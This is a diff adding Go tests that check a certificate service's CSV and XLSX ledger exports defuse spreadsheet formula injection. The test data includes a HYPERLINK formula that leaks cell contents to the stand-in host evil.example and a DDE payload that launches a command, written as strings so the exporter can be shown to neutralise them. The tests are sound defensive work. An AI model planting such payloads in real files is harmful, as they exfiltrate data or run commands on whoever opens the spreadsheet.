@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"crypto/ed25519"
+	"encoding/csv"
 	"fmt"
 	"io"
 	"log/slog"
@@ -653,6 +654,97 @@ func TestWriteLedger(t *testing.T) {
 	}
 	if _, err := f.svc.WriteLedger(f.ctx, clerk, issuer.CertificateFilter{}, "pdf", &buf); !issuer.Is(err, issuer.ErrInvalid) {
 		t.Errorf("unknown format: %v", err)
+	}
+}
+
+// A ledger cell the college wrote (学号, 专业, a revocation note) that
+// starts like a formula must not run as one when the CSV is opened in a
+// spreadsheet: it is written as text, as the XLSX ledger types it.
+func TestLedgerCSVDefusesFormulas(t *testing.T) {
+	f := newFixture(t)
+	payloads := []string{`=HYPERLINK("http://evil.example/?"&A2,"点击")`, "+1+1", "-2+3", "@SUM(1)"}
+	var b strings.Builder
+	b.WriteString(header)
+	for i, p := range payloads {
+		// The roster is CSV itself: quote the payload as a cell.
+		row := rosterRow(i, "张三", "4-04-05-05", "", "三级/高级工", "毕业年度学生")
+		row = strings.Replace(row, "软件技术", `"`+strings.ReplaceAll(p, `"`, `""`)+`"`, 1)
+		b.WriteString(row)
+	}
+	rep := f.issue(clerk, []byte(b.String()))
+	if len(rep.Problems) > 0 {
+		t.Fatalf("problems: %+v", rep.Problems)
+	}
+	if _, err := f.svc.Revoke(f.ctx, clerk, rep.Numbers[0], issuer.ReasonOther, "=cmd|' /C calc'!A0"); err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if _, err := f.svc.WriteLedger(f.ctx, clerk, issuer.CertificateFilter{}, "csv", &buf); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	seen := 0
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && strings.Trim(cell, "-") != "" {
+				t.Errorf("CSV cell %q starts like a formula", cell)
+			}
+			for _, p := range append(payloads, "=cmd|' /C calc'!A0") {
+				if cell == "'"+p {
+					seen++
+				}
+			}
+		}
+	}
+	if seen != len(payloads)+1 {
+		t.Fatalf("%d of %d payloads are in the CSV as quoted text", seen, len(payloads)+1)
+	}
+	// The XLSX ledger keeps them as typed text, unchanged, and no formula.
+	buf.Reset()
+	if _, err := f.svc.WriteLedger(f.ctx, clerk, issuer.CertificateFilter{}, "xlsx", &buf); err != nil {
+		t.Fatal(err)
+	}
+	x, err := excelize.OpenReader(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	xrows, _ := x.GetRows("台账 Ledger")
+	for r := range xrows {
+		for c := range xrows[r] {
+			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
+			if formula, _ := x.GetCellFormula("台账 Ledger", cell); formula != "" {
+				t.Errorf("XLSX cell %s has a formula %q", cell, formula)
+			}
+		}
+	}
+	if xrows[1][6] != payloads[0] {
+		t.Errorf("XLSX 专业 = %q, want it as written", xrows[1][6])
+	}
+}
+
+func TestDefuseFormula(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"=1+1", "'=1+1"},
+		{"+86 431 1234", "'+86 431 1234"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"--", "--"}, // the ledger's "no 工种": dashes alone compute nothing
+		{"-", "-"},
+		{"软件技术", "软件技术"},
+		{"S00042", "S00042"},
+		{"", ""},
+		{"a=1", "a=1"},
+		{"'=1", "'=1"},
+	}
+	for _, tt := range tests {
+		if got := issuer.DefuseFormula(tt.in); got != tt.want {
+			t.Errorf("DefuseFormula(%q) = %q, want %q", tt.in, got, tt.want)
+		}
 	}
 }
 
